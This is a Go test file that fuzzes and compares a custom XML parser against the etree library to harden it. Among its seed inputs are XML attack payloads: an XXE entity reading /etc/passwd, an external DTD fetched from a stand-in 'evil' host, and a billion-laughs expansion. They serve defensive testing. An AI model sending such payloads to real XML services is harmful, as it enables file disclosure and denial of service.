package envelope

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/beevik/etree"

	"axis/axis/errs"
)

const attacksDir = "../testdata/attacks"

// parserSeeds are the inputs of TestReadDocumentHardening, TestParseXMLRules and a few
// more, shared by the table tests and the differential fuzz target.
func parserSeeds() []string {
	s := []string{
		`<a>0123456789</a>`,
		"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<a/>\n",
		"<!-- c --><?pi ok?><a>&lt;&#x41;&#66;<![CDATA[<x>]]><!-- é --></a><!-- end -->",
		`<p:a xmlns:p="u" xmlns="v"><b p:x="1" x="2" xml:lang="vi"/></p:a>`,
		`<a xmlns:p="u" xmlns:q="v" p:x="1" q:x="2"/>`,
		string(nested(6)),
		"<a " + manyAttrs(50, false) + "/>",
		"<a " + manyAttrs(50, true) + "/>",
		`<!DOCTYPE edXML><edXML/>`,
		`<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`,
		`<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>`,
		`<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>`,
		`<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><a/>`,
		billionLaughs,
		`<a/><!DOCTYPE a>`,
		`<a><!ELEMENT a ANY></a>`,
		`<a>&nbsp;</a>`,
		"", " \n\t", `<!-- x -->`, `<a><b></b>`, `<a><b></a></b>`,
		`<p:a xmlns:p="u" xmlns:q="u"></q:a>`,
		`<h><From><From>x</From><To/></h>`,
		`<a/><b/>`, `<a/>garbage`, `garbage<a/>`, `<a/><![CDATA[x]]>`, `<a/><![CDATA[ ]]>`,
		"<a>\xff\xfe</a>", "<a b=\"\xc3\x28\"/>", "<a><!-- \xff --></a>", "<a><?p \xff?></a>",
		"<a\xff/>", "<a>\x01</a>", "<a><!-- \x01 --></a>", "<a>&#0;</a>",
		"<a>&#xD800;</a>", "<a b=\"&#57343;\"/>", "<a>&#x00000000D800;</a>", "<a><!-- &#xD800; --></a>",
		`<a>&</a>`, `<a b="<"/>`, `<a>]]></a>`, `<a b="]]>"/>`, `<a><!-- a -- b --></a>`, `<a><!-- a ---></a>`,
		`<a b=1/>`, `<a b="1" b="2"/>`, `<a xmlns:p="u" xmlns:q="u" p:x="1" q:x="2"/>`,
		`<a xmlns="u" xmlns="v"/>`, `<a xmlns:p="u" xmlns:p="v"/>`, `<edXML:edXML/>`,
		`<a><b xlink:href=""/></a>`, `<a><b xmlns:p="u"/><p:c/></a>`, `<a xmlns:p=""/>`,
		`<a xmlns:xml="urn:x"/>`, `<a xmlns:xmlns="urn:x"/>`, `<a xmlns:xml="http://www.w3.org/XML/1998/namespace" xml:a="1"/>`,
		`<a xmlns:x="http://www.w3.org/XML/1998/namespace"/>`, `<a xmlns="http://www.w3.org/2000/xmlns/"/>`,
		`<xmlns:a/>`, `<:a/>`, `<a: xmlns:a="u"/>`, `<a :b="1"/>`, `<a:b:c/>`, `<a b:c:d="1"/>`,
		`<a/><?xml version="1.0"?>`, ` <?xml version="1.0"?><a/>`, `<a><?xml version="1.0"?></a>`,
		`<a><?XmL x?></a>`, `<?XML version="1.0"?><a/>`, `<?xml encoding="UTF-8"?><a/>`, `<?xml version="1.1"?><a/>`,
		"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>\xe9</a>", `<?xml version="1.0" encoding="UTF-16"?><a/>`,
		`<?xml version="1.0" encoding="utf8"?><a/>`, `<?xml version = "1.1"?><a/>`, `<?xml version="1.0" standalone='yes' ?><a/>`,
		`<?xml version="1.0" bogus="x"?><a/>`, `<?xml versionx="1.0"?><a/>`, `<?xml version="1.0" encoding = "UTF-16"?><a/>`,
		"\xff\xfe<\x00a\x00/\x00>\x00",
		`<a b="1"c="2"/>`, `<a><?p+q?></a>`, `<a><?p?></a>`, `<a><?a:b x?></a>`, "&#32;<a/>", "<a/>&#x20;",
		"<a b=\"x\r\ny\rz\tw\nv\">p\r\nq\rr<![CDATA[s\r\nt]]></a>", "\r\n<a/>\r\n", "<a><!--\r\n--><?p \r\n?></a>",
		"<a b='&quot;&apos;&lt;&gt;&amp;'>&#x10FFFF;&#x110000;</a>", "<a>&#xFFFE;</a>", "<a>&#X41;</a>", "<a>&#x41</a>", "<a>&lt</a>",
		"<é/>", "<a\xcc\x81/>", "<\xcc\x81/>", "<a é='1'/>", "<a>\xef\xbf\xbe</a>", "<a b='\x00'/>",
		"<a></a >", "<a></a b>", "</a>", "<a/ >", "<a", "<a b", "<a b=", "<a b='", "<", "<!", "<!-", "<![CDATA[x", "<!-- x",
		"<?", "<?x", "<a><![CDAT[x]]></a>", "<a><![CDATA[]]><![CDATA[\n]]></a>", "\xEF\xBB\xBF\xEF\xBB\xBF<a/>",
	}
	for _, deep := range []int{20, 21} {
		s = append(s, string(nested(deep)))
	}
	return s
}

// seedParser adds the field samples, every file of the attack corpus and parserSeeds.
func seedParser(f *testing.F) {
	fs, _ := filepath.Glob(filepath.Join(samplesDir, "*.edxml"))
	as, _ := filepath.Glob(filepath.Join(attacksDir, "*"))
	if len(fs) != 16 || len(as) < 48 {
		f.Fatalf("want 16 samples and the attack corpus, found %d and %d files", len(fs), len(as))
	}
	for _, p := range append(fs, as...) {
		if st, err := os.Stat(p); err != nil || st.IsDir() {
			continue
		}
		b, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	for _, s := range parserSeeds() {
		f.Add([]byte(s))
	}
	if b, err := validPackage().Bytes(); err == nil {
		f.Add(b)
	}
}

const fuzzDepth = 20

// FuzzParserMatchesEtree proves the byte parser against the etree path:
//   - lenient mode agrees with readEtree on every input: the same verdict and, when both
//     accept, the same tree;
//   - strict mode (ReadDocument's) accepts a subset: whatever it accepts, lenient accepts
//     with the same tree, and when it alone rejects, the rule is one of the stricter ones.
func FuzzParserMatchesEtree(f *testing.F) {
	seedParser(f)
	f.Fuzz(func(t *testing.T, b []byte) {
		compareParsers(t, b)
	})
}

func compareParsers(t *testing.T, in []byte) {
	t.Helper()
	b := bytes.TrimPrefix(in, utf8BOM)
	old, oldErr := readEtree(b, Limits{MaxBytes: 1 << 30, MaxDepth: fuzzDepth})
	lax, _, laxErr := parseXML(b, fuzzDepth, false)
	if (oldErr == nil) != (laxErr == nil) {
		t.Fatalf("verdicts differ on %q:\netree: %v\nbyte:  %v", in, oldErr, laxErr)
	}
	if oldErr != nil {
		if errs.CodeOf(oldErr) != errs.CodeOf(laxErr) {
			t.Fatalf("codes differ on %q: %v / %v", in, oldErr, laxErr)
		}
	} else if d := diffDocs(old, lax); d != "" {
		t.Fatalf("trees differ on %q: %s", in, d)
	}
	strict, strictFail, strictErr := parseXML(b, fuzzDepth, true)
	switch {
	case strictErr == nil && laxErr != nil:
		t.Fatalf("strict accepts what lenient rejects: %q: %v", in, laxErr)
	case strictErr == nil:
		if d := diffDocs(old, strict); d != "" {
			t.Fatalf("strict tree differs on %q: %s", in, d)
		}
	case laxErr == nil && !strictFail:
		t.Fatalf("strict rejects %q by a rule not marked stricter: %v", in, strictErr)
	case errs.CodeOf(strictErr) != errs.MalformedXML:
		t.Fatalf("strict error without MalformedXML: %v", strictErr)
	}
}

// diffDocs describes the first difference between two documents, "" when identical:
// node types, names, attributes in order (with their owner), text and its flags,
// comments, PIs, directives, parent pointers, indexes and nil-ness of the slices.
func diffDocs(a, b *etree.Document) string {
	ra, rb := a.ReadSettings, b.ReadSettings
	if (ra.CharsetReader == nil) != (rb.CharsetReader == nil) {
		return "ReadSettings.CharsetReader"
	}
	ra.CharsetReader, rb.CharsetReader = nil, nil
	if !reflect.DeepEqual(ra, rb) || !reflect.DeepEqual(a.WriteSettings, b.WriteSettings) {
		return "settings"
	}
	if a.Parent() != nil || b.Parent() != nil || a.Index() != b.Index() {
		return "document element parent/index"
	}
	return diffElement("doc", &a.Element, &b.Element)
}

func diffElement(path string, a, b *etree.Element) string {
	if a.Space != b.Space || a.Tag != b.Tag {
		return fmt.Sprintf("%s: name %q:%q vs %q:%q", path, a.Space, a.Tag, b.Space, b.Tag)
	}
	path += "/" + a.FullTag()
	if (a.Attr == nil) != (b.Attr == nil) || len(a.Attr) != len(b.Attr) {
		return fmt.Sprintf("%s: attrs %#v vs %#v", path, a.Attr, b.Attr)
	}
	for i := range a.Attr {
		x, y := &a.Attr[i], &b.Attr[i]
		if x.Space != y.Space || x.Key != y.Key || x.Value != y.Value {
			return fmt.Sprintf("%s: attr %d: %q:%q=%q vs %q:%q=%q", path, i, x.Space, x.Key, x.Value, y.Space, y.Key, y.Value)
		}
		if x.Element() != a || y.Element() != b {
			return fmt.Sprintf("%s: attr %d: owner", path, i)
		}
	}
	if (a.Child == nil) != (b.Child == nil) || len(a.Child) != len(b.Child) {
		return fmt.Sprintf("%s: %d vs %d children (nil %v %v)", path, len(a.Child), len(b.Child), a.Child == nil, b.Child == nil)
	}
	for i := range a.Child {
		x, y := a.Child[i], b.Child[i]
		p := fmt.Sprintf("%s[%d]", path, i)
		if reflect.TypeOf(x) != reflect.TypeOf(y) {
			return fmt.Sprintf("%s: %T vs %T", p, x, y)
		}
		if x.Parent() != a || y.Parent() != b || x.Index() != i || y.Index() != i {
			return p + ": parent or index"
		}
		switch x := x.(type) {
		case *etree.Element:
			if d := diffElement(p, x, y.(*etree.Element)); d != "" {
				return d
			}
		case *etree.CharData:
			y := y.(*etree.CharData)
			if x.Data != y.Data || x.IsWhitespace() != y.IsWhitespace() || x.IsCData() != y.IsCData() {
				return fmt.Sprintf("%s: text %q (ws %v cdata %v) vs %q (ws %v cdata %v)", p,
					x.Data, x.IsWhitespace(), x.IsCData(), y.Data, y.IsWhitespace(), y.IsCData())
			}
		case *etree.Comment:
			if y := y.(*etree.Comment); x.Data != y.Data {
				return fmt.Sprintf("%s: comment %q vs %q", p, x.Data, y.Data)
			}
		case *etree.ProcInst:
			if y := y.(*etree.ProcInst); x.Target != y.Target || x.Inst != y.Inst {
				return fmt.Sprintf("%s: PI %q %q vs %q %q", p, x.Target, x.Inst, y.Target, y.Inst)
			}
		case *etree.Directive:
			if y := y.(*etree.Directive); x.Data != y.Data {
				return fmt.Sprintf("%s: directive %q vs %q", p, x.Data, y.Data)
			}
		default:
			return fmt.Sprintf("%s: unknown token %T", p, x)
		}
	}
	return ""
}

// The seeds and the corpus agree without fuzzing (go test runs this every time).
func TestParserMatchesEtreeOnCorpus(t *testing.T) {
	var inputs [][]byte
	for _, dir := range []string{filepath.Join(samplesDir, "*.edxml"), filepath.Join(attacksDir, "*.edxml")} {
		fs, _ := filepath.Glob(dir)
		for _, p := range fs {
			inputs = append(inputs, readSampleFile(t, p))
		}
	}
	for _, s := range parserSeeds() {
		inputs = append(inputs, []byte(s))
	}
	for _, b := range inputs {
		compareParsers(t, b)
	}
}

// The diff itself must see differences (a comparison that cannot fail proves nothing).
func TestDiffDocsDetects(t *testing.T) {
	base := `<a x="1"><b>t</b><!--c--><?p i?></a>`
	for _, other := range []string{
		`<a x="2"><b>t</b><!--c--><?p i?></a>`, `<a y="1"><b>t</b><!--c--><?p i?></a>`,
		`<a x="1"><c>t</c><!--c--><?p i?></a>`, `<a x="1"><b>u</b><!--c--><?p i?></a>`,
		`<a x="1"><b> </b><!--c--><?p i?></a>`, `<a x="1"><b>t</b><!--d--><?p i?></a>`,
		`<a x="1"><b>t</b><!--c--><?p j?></a>`, `<a x="1"><b>t</b><?p i?><!--c--></a>`,
		`<a x="1"><b>t</b><!--c--></a>`, `<a x="1" z="2"><b>t</b><!--c--><?p i?></a>`,
	} {
		x, _, err1 := parseXML([]byte(base), 10, true)
		y, _, err2 := parseXML([]byte(other), 10, true)
		if err1 != nil || err2 != nil {
			t.Fatal(err1, err2)
		}
		if diffDocs(x, y) == "" {
			t.Errorf("no difference found between %s and %s", base, other)
		}
	}
	x, _, _ := parseXML([]byte(base), 10, true)
	y, _, _ := parseXML([]byte(base), 10, true)
	y.Root().Child[0].(*etree.Element).Child[0].(*etree.CharData).SetData("t")
	if d := diffDocs(x, y); d != "" {
		t.Errorf("equal documents differ: %s", d)
	}
	y.Root().Attr[0] = x.Root().Attr[0] // same fields, owned by the other tree
	if d := diffDocs(x, y); !strings.Contains(d, "owner") {
		t.Errorf("attribute owner: %q", d)
	}
	y, _, _ = parseXML([]byte(base), 10, true)
	y.Root().CreateCData("")
	if diffDocs(x, y) == "" {
		t.Error("extra CDATA not seen")
	}
}
